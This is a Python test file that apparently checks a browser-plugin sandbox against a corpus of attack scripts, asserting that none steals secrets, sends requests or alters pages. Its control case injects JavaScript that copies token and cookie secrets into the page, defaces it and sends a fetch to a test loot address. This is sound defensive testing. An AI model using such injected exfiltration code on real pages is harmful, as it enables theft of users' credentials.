"""Every attack on each page, in a real browser: none takes anything."""

import json
import re
from collections import Counter

from attrs import astuple
from twisted.trial.unittest import SynchronousTestCase

from .attacked import CONTROL
from .corpus import ATTACKER, attacks
from .running import open_fixture, run

FEWEST = 120


class CorpusTests(SynchronousTestCase):
    def test_attacks(self) -> None:
        """There are enough of them, in families, each with a sentence of its own."""
        found = attacks()
        self.assertGreaterEqual(len(found), FEWEST)
        self.assertGreaterEqual(min(Counter(a.family for a in found).values()), 2)
        self.assertEqual(len({a.about for a in found}), len(found))

    def test_exported(self) -> None:
        """Whatever a family exports is an attack, and the plugin has every family."""
        main = (ATTACKER / "main.ts").read_text("utf-8")
        found = Counter(attack.family for attack in attacks())
        for path in ATTACKER.glob("*.js"):
            exported = re.findall(r"(?m)^export ", path.read_text("utf-8"))
            self.assertEqual(len(exported), found[path.stem], path.name)
            self.assertIn(f"\n  {path.stem},\n", main)


class TakingTests(SynchronousTestCase):
    def test_attack_every_way(self) -> None:
        """None takes a secret, sends a request, or changes the page or a neighbour."""
        with open_fixture() as fixture:
            found = run(fixture)
            taken = {name: seen for name, seen in found.items() if seen.loot}
            self.assertEqual(taken, {})
            # What takes no secret: to speak to other plugins, to use the origin, work.
            for name in ("broadcast", "directory_of_the_origin", "permission_query"):
                self.assertIn("was stopped", found["open", f"workers.{name}"].note)
            # What would have been taken would have been seen.
            tab = fixture.tabs[0]
            tab.load("open")
            secrets = json.dumps([*astuple(tab.secrets), "DEFACED"])
            address = json.dumps(tab.loot_address("open", CONTROL))
            tab.in_the_page(
                f"""
                const own = '[data-testid="plugin-cards-attacker"] p';
                document.querySelector(own).textContent = {secrets}.join();
                document.documentElement.lang = "DEFACED";
                fetch({address}, {{ mode: "no-cors" }});
                """
            )
            seen = tab.look(worked=True)
            self.assertEqual(seen.loot, {"token", "cookie", "data", "host"})
            tab.tab.wait(lambda: bool(fixture.elsewhere.seen), 5.0)
            self.assertEqual(fixture.elsewhere.seen, {("open", CONTROL.id)})
